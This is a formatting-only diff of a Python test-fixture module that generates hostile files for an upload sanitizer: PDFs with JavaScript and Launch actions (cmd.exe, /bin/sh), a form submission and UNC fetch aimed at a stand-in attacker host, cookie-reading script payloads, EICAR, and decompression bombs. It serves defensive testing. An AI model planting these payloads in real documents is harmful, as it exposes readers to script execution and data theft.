@@ -19,7 +19,7 @@ EICAR_MARK = b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE"
 
 
 def eicar() -> bytes:
-    return (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + EICAR_MARK + b"!$H+H*")
+    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + EICAR_MARK + b"!$H+H*"
 
 
 def eicar_md5() -> str:
@@ -33,8 +33,9 @@ def eicar_zip() -> bytes:
     return out.getvalue()
 
 
-def photo(width=1200, height=1600, *, text="Seite 1", orientation=None, gps=True,
-          fmt="JPEG", quality=80) -> bytes:
+def photo(
+    width=1200, height=1600, *, text="Seite 1", orientation=None, gps=True, fmt="JPEG", quality=80
+) -> bytes:
     """A "photograph" of a document page: some text and noise, optionally rotated via EXIF and
     with a GPS position in its metadata."""
     image = Image.new("RGB", (width, height), (235, 232, 225))
@@ -85,8 +86,11 @@ def simple_pdf(pages: int = 1) -> bytes:
 def pdf_with_javascript() -> bytes:
     pdf = pikepdf.new()
     pdf.add_blank_page()
-    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
-        Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
+    pdf.Root.OpenAction = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
+        )
+    )
     out = io.BytesIO()
     pdf.save(out)
     return out.getvalue()
@@ -115,16 +119,20 @@ def broken_pdf() -> bytes:
 
 def bomb_png(width=20000, height=20000) -> bytes:
     """A PNG of a few kB that would decode to 400 megapixels (a decompression bomb)."""
+
     def chunk(kind: bytes, data: bytes) -> bytes:
-        return (struct.pack("!I", len(data)) + kind + data
-                + struct.pack("!I", zlib.crc32(kind + data) & 0xFFFFFFFF))
+        return (
+            struct.pack("!I", len(data))
+            + kind
+            + data
+            + struct.pack("!I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+        )
 
     ihdr = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
     row = b"\x00" + b"\x00" * ((width + 7) // 8)
     compressor = zlib.compressobj(9)
     data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", data) + chunk(
-        b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
 
 
 def polyglot_jpeg_zip() -> bytes:
@@ -136,9 +144,11 @@ def polyglot_jpeg_zip() -> bytes:
 
 
 def svg_with_script() -> bytes:
-    return (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
-            b'height="10"><script>alert(document.cookie)</script><rect width="10" '
-            b'height="10"/></svg>\n')
+    return (
+        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
+        b'height="10"><script>alert(document.cookie)</script><rect width="10" '
+        b'height="10"/></svg>\n'
+    )
 
 
 def exe_renamed() -> bytes:
@@ -194,8 +204,9 @@ def _pdf_with(build, **save) -> bytes:
     pdf = pikepdf.new()
     pdf.add_blank_page(page_size=(595, 842))
     page = pdf.pages[0]
-    font = pdf.make_indirect(pikepdf.Dictionary(Type=Name.Font, Subtype=Name.Type1,
-                                                BaseFont=Name.Helvetica))
+    font = pdf.make_indirect(
+        pikepdf.Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
+    )
     page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
     page.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 760 Td (Kontoauszug) Tj ET")
     build(pdf, page)
@@ -211,8 +222,9 @@ def _action(kind: str, **entries) -> pikepdf.Dictionary:
 
 
 def _link(action, rect=(72, 700, 300, 730)) -> pikepdf.Dictionary:
-    return pikepdf.Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=list(rect),
-                              Border=[0, 0, 0], A=action)
+    return pikepdf.Dictionary(
+        Type=Name.Annot, Subtype=Name.Link, Rect=list(rect), Border=[0, 0, 0], A=action
+    )
 
 
 def _annots(page, *annots) -> None:
@@ -223,23 +235,39 @@ def _set(**catalog):
     def build(pdf, page):
         for key, value in catalog.items():
             pdf.Root[Name("/" + key)] = value(pdf, page) if callable(value) else value
+
     return build
 
 
 def _embedded_file(pdf) -> pikepdf.Dictionary:
     data = pdf.make_stream(b"MZ not really a program")
     data.Type = Name.EmbeddedFile
-    return pikepdf.Dictionary(Type=Name.Filespec, F=pikepdf.String("rechnung.exe"),
-                              UF=pikepdf.String("rechnung.exe"), EF=pikepdf.Dictionary(F=data))
+    return pikepdf.Dictionary(
+        Type=Name.Filespec,
+        F=pikepdf.String("rechnung.exe"),
+        UF=pikepdf.String("rechnung.exe"),
+        EF=pikepdf.Dictionary(F=data),
+    )
 
 
 def _widget(pdf, page, **extra) -> pikepdf.Dictionary:
-    appearance = pdf.make_stream(b"0 0 1 rg 0 0 200 20 re f", Type=Name.XObject,
-                                 Subtype=Name.Form, BBox=[0, 0, 200, 20])
-    field = pdf.make_indirect(pikepdf.Dictionary(
-        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=pikepdf.String("name"),
-        V=pikepdf.String("Kim Musterfrau"), Rect=[72, 600, 272, 620], P=page.obj,
-        AP=pikepdf.Dictionary(N=appearance), F=4, **extra))
+    appearance = pdf.make_stream(
+        b"0 0 1 rg 0 0 200 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 20]
+    )
+    field = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=pikepdf.String("name"),
+            V=pikepdf.String("Kim Musterfrau"),
+            Rect=[72, 600, 272, 620],
+            P=page.obj,
+            AP=pikepdf.Dictionary(N=appearance),
+            F=4,
+            **extra,
+        )
+    )
     _annots(page, field)
     pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field], DA=pikepdf.String("/Helv 0 Tf 0 g"))
     return field
@@ -256,7 +284,9 @@ def pdf_js_openaction_indirect() -> bytes:
 def pdf_js_openaction_stream() -> bytes:
     def build(pdf, page):
         pdf.Root.OpenAction = pikepdf.Dictionary(
-            S=Name.JavaScript, JS=pdf.make_stream(b"app.launchURL('http://x.invalid')"))
+            S=Name.JavaScript, JS=pdf.make_stream(b"app.launchURL('http://x.invalid')")
+        )
+
     return _pdf_with(build)
 
 
@@ -269,8 +299,10 @@ def pdf_js_hex_encoded_name() -> bytes:
 
 def pdf_js_next_chain() -> bytes:
     """A harmless GoTo whose ``/Next`` runs JavaScript."""
+
     def build(pdf, page):
         pdf.Root.OpenAction = _action("GoTo", D=[page.obj, Name.Fit], Next=_js())
+
     return _pdf_with(build)
 
 
@@ -281,12 +313,14 @@ def pdf_js_catalog_aa() -> bytes:
 def pdf_js_page_aa_inline() -> bytes:
     def build(pdf, page):
         page.AA = pikepdf.Dictionary(O=_js())
+
     return _pdf_with(build)
 
 
 def pdf_js_page_aa_indirect() -> bytes:
     def build(pdf, page):
         page.AA = pdf.make_indirect(pikepdf.Dictionary(C=pdf.make_indirect(_js())))
+
     return _pdf_with(build)
 
 
@@ -295,8 +329,9 @@ def pdf_js_link_inline() -> bytes:
 
 
 def pdf_js_link_indirect() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(
-        page, pdf.make_indirect(_link(pdf.make_indirect(_js())))))
+    return _pdf_with(
+        lambda pdf, page: _annots(page, pdf.make_indirect(_link(pdf.make_indirect(_js()))))
+    )
 
 
 def pdf_js_annotation_aa() -> bytes:
@@ -304,18 +339,36 @@ def pdf_js_annotation_aa() -> bytes:
         link = _link(_action("GoTo", D=[page.obj, Name.Fit]))
         link.AA = pikepdf.Dictionary(E=_js())  # runs when the mouse enters the link
         _annots(page, link)
+
     return _pdf_with(build)
 
 
 def pdf_launch_link_inline() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, _link(_action(
-        "Launch", F=pikepdf.String("cmd.exe"),
-        Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc"))))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page,
+            _link(
+                _action(
+                    "Launch",
+                    F=pikepdf.String("cmd.exe"),
+                    Win=pikepdf.Dictionary(
+                        F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")
+                    ),
+                )
+            ),
+        )
+    )
 
 
 def pdf_launch_link_indirect() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, pdf.make_indirect(_link(pdf.make_indirect(
-        _action("Launch", F=pikepdf.String("/bin/sh")))))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page,
+            pdf.make_indirect(
+                _link(pdf.make_indirect(_action("Launch", F=pikepdf.String("/bin/sh"))))
+            ),
+        )
+    )
 
 
 def pdf_launch_openaction() -> bytes:
@@ -323,38 +376,68 @@ def pdf_launch_openaction() -> bytes:
 
 
 def pdf_uri_file() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, _link(_action(
-        "URI", URI=pikepdf.String("file:///C:/Windows/System32/calc.exe")))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page, _link(_action("URI", URI=pikepdf.String("file:///C:/Windows/System32/calc.exe")))
+        )
+    )
 
 
 def pdf_uri_javascript() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, _link(_action(
-        "URI", URI=pikepdf.String("javascript:alert(document.cookie)")))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page, _link(_action("URI", URI=pikepdf.String("javascript:alert(document.cookie)")))
+        )
+    )
 
 
 def pdf_submitform_widget() -> bytes:
-    return _pdf_with(lambda pdf, page: _widget(pdf, page, A=_action(
-        "SubmitForm", F=pikepdf.String("https://angreifer.invalid/sammeln"), Flags=4)))
+    return _pdf_with(
+        lambda pdf, page: _widget(
+            pdf,
+            page,
+            A=_action("SubmitForm", F=pikepdf.String("https://angreifer.invalid/sammeln"), Flags=4),
+        )
+    )
 
 
 def pdf_importdata_link() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, _link(_action(
-        "ImportData", F=pikepdf.String("daten.fdf")))))
+    return _pdf_with(
+        lambda pdf, page: _annots(page, _link(_action("ImportData", F=pikepdf.String("daten.fdf"))))
+    )
 
 
 def pdf_gotor_link() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, _link(_action(
-        "GoToR", F=pikepdf.String("\\\\angreifer.invalid\\share\\x.pdf"), D=[0, Name.Fit]))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page,
+            _link(
+                _action(
+                    "GoToR",
+                    F=pikepdf.String("\\\\angreifer.invalid\\share\\x.pdf"),
+                    D=[0, Name.Fit],
+                )
+            ),
+        )
+    )
 
 
 def pdf_gotoe_openaction() -> bytes:
-    return _pdf_with(_set(OpenAction=_action(
-        "GoToE", D=[0, Name.Fit], T=pikepdf.Dictionary(R=Name.C, N=pikepdf.String("a")))))
+    return _pdf_with(
+        _set(
+            OpenAction=_action(
+                "GoToE", D=[0, Name.Fit], T=pikepdf.Dictionary(R=Name.C, N=pikepdf.String("a"))
+            )
+        )
+    )
 
 
 def pdf_field_aa_keystroke() -> bytes:
-    return _pdf_with(lambda pdf, page: _widget(pdf, page, AA=pikepdf.Dictionary(
-        K=_js("event.rc = true; app.alert(1)"), F=_js())))
+    return _pdf_with(
+        lambda pdf, page: _widget(
+            pdf, page, AA=pikepdf.Dictionary(K=_js("event.rc = true; app.alert(1)"), F=_js())
+        )
+    )
 
 
 def pdf_acroform_xfa() -> bytes:
@@ -362,34 +445,55 @@ def pdf_acroform_xfa() -> bytes:
         _widget(pdf, page)
         pdf.Root.AcroForm.XFA = pdf.make_stream(
             b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script '
-            b'contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>')
+            b'contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>'
+        )
+
     return _pdf_with(build)
 
 
 def pdf_names_javascript() -> bytes:
-    return _pdf_with(_set(Names=lambda pdf, page: pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
-        Names=[pikepdf.String("start"), pdf.make_indirect(_js())]))))
+    return _pdf_with(
+        _set(
+            Names=lambda pdf, page: pikepdf.Dictionary(
+                JavaScript=pikepdf.Dictionary(
+                    Names=[pikepdf.String("start"), pdf.make_indirect(_js())]
+                )
+            )
+        )
+    )
 
 
 def pdf_outline_js() -> bytes:
     def build(pdf, page):
         outlines = pdf.make_indirect(pikepdf.Dictionary(Type=Name.Outlines, Count=1))
-        item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Seite 1"),
-                                                    Parent=outlines, A=_js()))
+        item = pdf.make_indirect(
+            pikepdf.Dictionary(Title=pikepdf.String("Seite 1"), Parent=outlines, A=_js())
+        )
         outlines.First = outlines.Last = item
         pdf.Root.Outlines = outlines
+
     return _pdf_with(build)
 
 
 def pdf_rendition_screen() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, pikepdf.Dictionary(
-        Type=Name.Annot, Subtype=Name.Screen, Rect=[0, 0, 10, 10],
-        A=_action("Rendition", OP=0, JS=pikepdf.String("app.alert(1)")))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page,
+            pikepdf.Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.Screen,
+                Rect=[0, 0, 10, 10],
+                A=_action("Rendition", OP=0, JS=pikepdf.String("app.alert(1)")),
+            ),
+        )
+    )
 
 
 def pdf_js_in_object_stream() -> bytes:
-    return _pdf_with(_set(OpenAction=lambda pdf, page: pdf.make_indirect(_js())),
-                     object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return _pdf_with(
+        _set(OpenAction=lambda pdf, page: pdf.make_indirect(_js())),
+        object_stream_mode=pikepdf.ObjectStreamMode.generate,
+    )
 
 
 def pdf_js_incremental_update() -> bytes:
@@ -399,51 +503,82 @@ def pdf_js_incremental_update() -> bytes:
         root, pages = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0]
         size = int(pdf.trailer.Size)
     start = raw.rindex(b"startxref")
-    previous = int(raw[start + len(b"startxref"):].split()[0])
-    catalog = (f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R /OpenAction {size} 0 R >>\n"
-               "endobj\n").encode()
+    previous = int(raw[start + len(b"startxref") :].split()[0])
+    catalog = (
+        f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R /OpenAction {size} 0 R >>\nendobj\n"
+    ).encode()
     action = f"{size} 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n".encode()
     body = raw + b"\n"
     offsets = {root: len(body), size: len(body) + len(catalog)}
     body += catalog + action
     xref = len(body)
-    body += (f"xref\n{root} 1\n{offsets[root]:010d} 00000 n \n{size} 1\n{offsets[size]:010d} "
-             f"00000 n \ntrailer\n<< /Size {size + 1} /Root {root} 0 R /Prev {previous} >>\n"
-             f"startxref\n{xref}\n%%EOF\n").encode()
+    body += (
+        f"xref\n{root} 1\n{offsets[root]:010d} 00000 n \n{size} 1\n{offsets[size]:010d} "
+        f"00000 n \ntrailer\n<< /Size {size + 1} /Root {root} 0 R /Prev {previous} >>\n"
+        f"startxref\n{xref}\n%%EOF\n"
+    ).encode()
     return body
 
 
 def pdf_file_attachment_annotation() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, pikepdf.Dictionary(
-        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20],
-        FS=_embedded_file(pdf))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page,
+            pikepdf.Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.FileAttachment,
+                Rect=[0, 0, 20, 20],
+                FS=_embedded_file(pdf),
+            ),
+        )
+    )
 
 
 def pdf_associated_file() -> bytes:
     def build(pdf, page):
         page.AF = pikepdf.Array([pdf.make_indirect(_embedded_file(pdf))])
+
     return _pdf_with(build)
 
 
 def pdf_richmedia() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, pikepdf.Dictionary(
-        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 100, 100],
-        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=[
-            pikepdf.String("film.swf"), _embedded_file(pdf)])))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page,
+            pikepdf.Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.RichMedia,
+                Rect=[0, 0, 100, 100],
+                RichMediaContent=pikepdf.Dictionary(
+                    Assets=pikepdf.Dictionary(
+                        Names=[pikepdf.String("film.swf"), _embedded_file(pdf)]
+                    )
+                ),
+            ),
+        )
+    )
 
 
 def pdf_3d_annotation() -> bytes:
     def build(pdf, page):
         model = pdf.make_stream(b"U3D\x00", Type=Name("/3D"), Subtype=Name("/U3D"))
-        _annots(page, pikepdf.Dictionary(Type=Name.Annot, Subtype=Name("/3D"),
-                                         Rect=[0, 0, 100, 100], **{"/3DD": model}))
+        _annots(
+            page,
+            pikepdf.Dictionary(
+                Type=Name.Annot, Subtype=Name("/3D"), Rect=[0, 0, 100, 100], **{"/3DD": model}
+            ),
+        )
+
     return _pdf_with(build)
 
 
 # Accepted, and the stored copy has nothing of it left.
 def pdf_link_https() -> bytes:
-    return _pdf_with(lambda pdf, page: _annots(page, _link(_action(
-        "URI", URI=pikepdf.String("https://www.arbeitsagentur.de/")))))
+    return _pdf_with(
+        lambda pdf, page: _annots(
+            page, _link(_action("URI", URI=pikepdf.String("https://www.arbeitsagentur.de/")))
+        )
+    )
 
 
 def pdf_filled_form() -> bytes:
@@ -451,31 +586,40 @@ def pdf_filled_form() -> bytes:
 
 
 def pdf_goto_openaction() -> bytes:
-    return _pdf_with(lambda pdf, page: pdf.Root.__setattr__(
-        "OpenAction", pikepdf.Array([page.obj, Name.Fit])))
+    return _pdf_with(
+        lambda pdf, page: pdf.Root.__setattr__("OpenAction", pikepdf.Array([page.obj, Name.Fit]))
+    )
 
 
 def pdf_owner_password_only() -> bytes:
     """Encrypted with an owner password only: opens without one (print/copy limits)."""
-    return _pdf_with(lambda pdf, page: None, encryption=pikepdf.Encryption(
-        user="", owner="geheim", allow=pikepdf.Permissions(extract=False)))
+    return _pdf_with(
+        lambda pdf, page: None,
+        encryption=pikepdf.Encryption(
+            user="", owner="geheim", allow=pikepdf.Permissions(extract=False)
+        ),
+    )
 
 
 def pdf_page_extras() -> bytes:
     """Thumbnail, private application data and an inherited resource dictionary."""
+
     def build(pdf, page):
         page.PieceInfo = pikepdf.Dictionary(Acme=pikepdf.Dictionary(Private=pikepdf.String("x")))
-        page.Thumb = pdf.make_stream(b"\x00" * 12, Width=2, Height=2, BitsPerComponent=8,
-                                     ColorSpace=Name.DeviceRGB)
+        page.Thumb = pdf.make_stream(
+            b"\x00" * 12, Width=2, Height=2, BitsPerComponent=8, ColorSpace=Name.DeviceRGB
+        )
         pdf.Root.Pages.Resources = page.Resources
         del page.obj["/Resources"]
+
     return _pdf_with(build)
 
 
 # Encrypted and malformed PDFs.
 def encrypted_pdf_aes256() -> bytes:
-    return _pdf_with(lambda pdf, page: None, encryption=pikepdf.Encryption(
-        user="geheim", owner="geheim", R=6))
+    return _pdf_with(
+        lambda pdf, page: None, encryption=pikepdf.Encryption(user="geheim", owner="geheim", R=6)
+    )
 
 
 def truncated_pdf() -> bytes:
@@ -488,22 +632,26 @@ def pdf_header_only() -> bytes:
 
 
 def pdf_page_tree_loop() -> bytes:
-    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
-            b"2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\n"
-            b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n")
+    return (
+        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+        b"2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\n"
+        b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n"
+    )
 
 
 def pdf_deep_nesting() -> bytes:
     deep = b"[" * 20000 + b"]" * 20000
-    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X " + deep + b" >>\nendobj\n"
-            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
-            b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n")
+    return (
+        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X " + deep + b" >>\nendobj\n"
+        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
+        b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n"
+    )
 
 
 def pdf_garbage_xref() -> bytes:
     raw = simple_pdf()
     start = raw.rindex(b"xref")
-    return raw[:start] + b"xref\n0 9999999\n" + b"\xff" * 200 + raw[raw.rindex(b"trailer"):]
+    return raw[:start] + b"xref\n0 9999999\n" + b"\xff" * 200 + raw[raw.rindex(b"trailer") :]
 
 
 def pdf_huge_count() -> bytes:
@@ -514,6 +662,7 @@ def pdf_huge_count() -> bytes:
 def pdf_with_eicar_stream() -> bytes:
     def build(pdf, page):
         page.Contents = pdf.make_stream(b"% " + eicar() + b"\n")
+
     return _pdf_with(build, compress_streams=False)
 
 
@@ -522,7 +671,7 @@ def jpeg_huge_dimensions() -> bytes:
     """A small JPEG whose header claims 65 000 × 65 000 pixels."""
     raw = bytearray(photo(64, 64, gps=False))
     sof = next(i for i in range(len(raw) - 1) if raw[i] == 0xFF and raw[i + 1] in (0xC0, 0xC2))
-    raw[sof + 5: sof + 9] = struct.pack(">HH", 65000, 65000)
+    raw[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
     return bytes(raw)
 
 
@@ -534,13 +683,13 @@ def tiff_huge_dimensions() -> bytes:
     assert image.size == (8, 8)
     # Rewrite the width and height tags (256, 257) of the first IFD to 200 000.
     offset = struct.unpack("<I", raw[4:8])[0]
-    count = struct.unpack("<H", raw[offset:offset + 2])[0]
+    count = struct.unpack("<H", raw[offset : offset + 2])[0]
     for n in range(count):
         entry = offset + 2 + 12 * n
-        tag, kind = struct.unpack("<HH", raw[entry:entry + 4])
+        tag, kind = struct.unpack("<HH", raw[entry : entry + 4])
         if tag in (256, 257):
             fmt = "<H" if kind == 3 else "<I"
-            raw[entry + 8: entry + 8 + struct.calcsize(fmt)] = struct.pack(fmt, 60000)
+            raw[entry + 8 : entry + 8 + struct.calcsize(fmt)] = struct.pack(fmt, 60000)
     return bytes(raw)
 
 
@@ -620,23 +769,25 @@ def polyglot_html_in_jpeg_comment() -> bytes:
 
 
 def html_page() -> bytes:
-    return (b"<!DOCTYPE html><html><head><title>Bescheid</title></head><body>"
-            b"<script>fetch('/backoffice/')</script></body></html>")
+    return (
+        b"<!DOCTYPE html><html><head><title>Bescheid</title></head><body>"
+        b"<script>fetch('/backoffice/')</script></body></html>"
+    )
 
 
 def xhtml_page() -> bytes:
-    return (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
-            b"<script>alert(1)</script></body></html>")
+    return (
+        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
+        b"<script>alert(1)</script></body></html>"
+    )
 
 
 def svg_onload() -> bytes:
-    return (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="1" '
-            b'height="1"/>')
+    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="1" height="1"/>'
 
 
 def elf_renamed() -> bytes:
-    return (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 62, 1)
-            + b"\x00" * 200)
+    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 62, 1) + b"\x00" * 200
 
 
 def shell_script() -> bytes:
@@ -712,8 +863,7 @@ HOSTILE = {
     "pdf_rendition": ("a.pdf", pdf_rendition_screen, "pdf_javascript"),
     "pdf_xfa": ("a.pdf", pdf_acroform_xfa, "pdf_javascript"),
     "pdf_embedded_names": ("a.pdf", pdf_with_attachment, "pdf_embedded"),
-    "pdf_file_attachment_annotation": ("a.pdf", pdf_file_attachment_annotation,
-                                       "pdf_embedded"),
+    "pdf_file_attachment_annotation": ("a.pdf", pdf_file_attachment_annotation, "pdf_embedded"),
     "pdf_associated_file": ("a.pdf", pdf_associated_file, "pdf_embedded"),
     "pdf_richmedia": ("a.pdf", pdf_richmedia, "pdf_embedded"),
     "pdf_3d": ("a.pdf", pdf_3d_annotation, "pdf_embedded"),
